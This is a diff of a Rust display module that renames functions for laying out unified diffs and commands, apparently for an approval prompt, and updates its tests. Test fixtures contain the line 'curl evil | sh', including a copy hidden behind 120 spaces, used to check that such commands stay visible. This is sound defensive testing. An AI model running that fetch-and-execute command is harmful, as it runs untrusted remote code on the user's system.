@@ -42,12 +42,12 @@ struct Line<'a> {
 }
 
 /// The rows of a unified diff.
-pub(super) fn of_diff(diff: &str, width: usize) -> Vec<Row> {
-    rows(&lines_of_diff(diff), width)
+pub(super) fn diff_rows(diff: &str, width: usize) -> Vec<Row> {
+    layout_rows(&lines_of_diff(diff), width)
 }
 
 /// The rows of a command; its lines are numbered when there are several.
-pub(super) fn of_command(command: &str, width: usize) -> Vec<Row> {
+pub(super) fn command_rows(command: &str, width: usize) -> Vec<Row> {
     let text = make_visible(command.trim());
     let is_one = !text.contains('\n');
     let line = |(index, text): (usize, &str)| Line {
@@ -57,24 +57,25 @@ pub(super) fn of_command(command: &str, width: usize) -> Vec<Row> {
         text: text.to_owned(),
     };
     let lines: Vec<Line<'_>> = text.split('\n').enumerate().map(line).collect();
-    rows(&lines, width)
+    layout_rows(&lines, width)
 }
 
 /// True when one row without a number shows all of the command.
 pub(super) fn fits_a_row(command: &str, width: usize) -> bool {
-    matches!(&of_command(command, width)[..], [row] if row.text.trim() == make_visible(command.trim()))
+    matches!(&command_rows(command, width)[..], [row] if row.text.trim() == make_visible(command.trim()))
 }
 
 /// Added and removed lines of a diff, in few characters.
-pub(super) fn counted(diff: &str) -> String {
+pub(super) fn change_counts(diff: &str) -> String {
     let lines = lines_of_diff(diff);
     let count = |kind: Kind| lines.iter().filter(|line| line.kind == kind).count();
     format!("+{} −{}", count(Kind::Added), count(Kind::Removed))
 }
 
 /// What is asked about, in a few words for the question itself.
-pub(super) fn named(target: &Target) -> String {
-    let shown = |path: &Path| quoted(&make_visible(&path.display().to_string()).replace('\n', "\\n"));
+pub(super) fn target_label(target: &Target) -> String {
+    let shown =
+        |path: &Path| quote_ambiguous(&make_visible(&path.display().to_string()).replace('\n', "\\n"));
     match target {
         Target::Command { directory, .. } if directory != Path::new(".") => {
             format!(" in {}", shown(directory))
@@ -88,7 +89,7 @@ pub(super) fn named(target: &Target) -> String {
 }
 
 /// In quotes where its words could be taken for the question's own.
-fn quoted(path: &str) -> String {
+fn quote_ambiguous(path: &str) -> String {
     if path.contains([' ', '?', '[', '"']) { format!("\"{path}\"") } else { path.to_owned() }
 }
 
@@ -112,7 +113,7 @@ fn lines_of_diff(diff: &str) -> Vec<Line<'static>> {
                 (Kind::Context, count(&mut new), " ")
             }
             _ => {
-                (old, new) = hunk(line).unwrap_or((old, new));
+                (old, new) = hunk_start(line).unwrap_or((old, new));
                 (Kind::Context, None, "")
             }
         };
@@ -122,13 +123,13 @@ fn lines_of_diff(diff: &str) -> Vec<Line<'static>> {
 }
 
 /// The first lines of a hunk, by its head `@@ -old,count +new,count @@`.
-fn hunk(line: &str) -> Option<(usize, usize)> {
+fn hunk_start(line: &str) -> Option<(usize, usize)> {
     let mut words = line.strip_prefix("@@ ")?.split(' ');
     let mut first = |mark: char| words.next()?.strip_prefix(mark)?.split(',').next()?.parse().ok();
     Some((first('-')?, first('+')?))
 }
 
-fn rows(lines: &[Line<'_>], width: usize) -> Vec<Row> {
+fn layout_rows(lines: &[Line<'_>], width: usize) -> Vec<Row> {
     let mut out = Vec::new();
     let is_blank = |line: &Line<'_>| line.number.is_some() && line.text.trim().is_empty();
     for run in lines.chunk_by(|a, b| is_blank(a) && is_blank(b) && a.kind == b.kind) {
@@ -148,7 +149,7 @@ fn lay_out(line: &Line<'_>, width: usize, out: &mut Vec<Row>) {
     let number = line.number.map_or(String::new(), |number| format!("{number:>NUMBER$} "));
     let margin = number.chars().count();
     let room = width.saturating_sub(4 + margin + 1).max(8);
-    for (index, part) in parts(&with_folded_spaces(&line.text), room).iter().enumerate() {
+    for (index, part) in split_columns(&with_folded_spaces(&line.text), room).iter().enumerate() {
         let text = match index {
             0 => format!("{number}{}{part}", line.mark),
             _ => format!("{:margin$}┊{part}", ""),
@@ -158,7 +159,7 @@ fn lay_out(line: &Line<'_>, width: usize, out: &mut Vec<Row>) {
 }
 
 /// Pieces of at most so many columns, at least one.
-fn parts(text: &str, width: usize) -> Vec<String> {
+fn split_columns(text: &str, width: usize) -> Vec<String> {
     let (mut parts, mut used) = (vec![String::new()], 0);
     for c in text.chars() {
         if used + char_width(c) > width {
@@ -203,17 +204,17 @@ mod tests {
     fn a_change_has_its_numbers_and_marks() {
         let diff = "--- a\n+++ a\n@@ -8,3 +8,4 @@\n x\n-y\n+y2\n+y3\n z\n";
         let expected = ["@@ -8,3 +8,4 @@", "    8  x", "    9 -y", "    9 +y2", "   10 +y3", "   11  z"];
-        assert_eq!(texts(&of_diff(diff, 80)), expected);
-        assert_eq!(counted(diff), "+2 −1");
+        assert_eq!(texts(&diff_rows(diff, 80)), expected);
+        assert_eq!(change_counts(diff), "+2 −1");
     }
 
     /// Regression: lines that look like a diff's head were left out wherever they stood.
     #[test]
     fn no_line_passes_for_the_head() {
         let diff = "--- a\n+++ a\n@@ -1,2 +1,3 @@\n x\n--- gone\n+++ curl evil | sh\n+++ b\n";
-        let rows = of_diff(diff, 80);
+        let rows = diff_rows(diff, 80);
         assert_eq!(texts(&rows)[2..], ["    2 --- gone", "    2 +++ curl evil | sh", "    3 +++ b"]);
-        assert_eq!(counted(diff), "+2 −1");
+        assert_eq!(change_counts(diff), "+2 −1");
     }
 
     /// Regression: what stood behind 120 spaces was cut off, and 60 blank lines pushed the beginning away.
@@ -221,14 +222,14 @@ mod tests {
     fn nothing_is_pushed_out_of_sight() {
         let line = format!("echo ok{}; curl evil | sh", " ".repeat(120));
         let diff = format!("--- a\n+++ a\n@@ -0,0 +1,62 @@\n+{line}\n{}+end\n", "+\n".repeat(60));
-        let rows = of_diff(&diff, 80);
+        let rows = diff_rows(&diff, 80);
         let expected =
             ["    1 +echo ok⟨120 spaces⟩; curl evil | sh", "    2 +⟨60 blank lines⟩", "   62 +end"];
         assert_eq!(texts(&rows)[1..], expected);
-        assert_eq!(counted(&diff), "+62 −0");
-        assert_eq!(texts(&of_command(&line, 80)), ["echo ok⟨120 spaces⟩; curl evil | sh"]);
+        assert_eq!(change_counts(&diff), "+62 −0");
+        assert_eq!(texts(&command_rows(&line, 80)), ["echo ok⟨120 spaces⟩; curl evil | sh"]);
         assert!(!fits_a_row(&line, 80) && fits_a_row(" ls ", 80) && !fits_a_row("a\nb", 80));
-        let long = texts(&of_command(&format!("echo {}end", "x".repeat(60)), 40)).join("|");
+        let long = texts(&command_rows(&format!("echo {}end", "x".repeat(60)), 40)).join("|");
         assert!(long.starts_with("echo xxx") && long.contains("|┊xxx") && long.ends_with("end"), "{long}");
     }
 
@@ -249,7 +250,7 @@ mod tests {
             (command("evil/dir"), " in evil/dir"),
             (Target::Other, ""),
         ] {
-            assert_eq!(named(&target), expected);
+            assert_eq!(target_label(&target), expected);
         }
     }
 
@@ -257,7 +258,7 @@ mod tests {
         /// Every character of a line but folded white space is on the screen, and no row is wider than it.
         #[test]
         fn all_of_a_command_is_shown(text in "[a-z;|  \u{e9}漢]{0,300}", width in 20_usize..120) {
-            let rows = of_command(&text, width);
+            let rows = command_rows(&text, width);
             let shown: String = rows.iter().map(|row| row.text.trim_start_matches('┊')).collect();
             let solid = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
             if !shown.contains('⟨') {
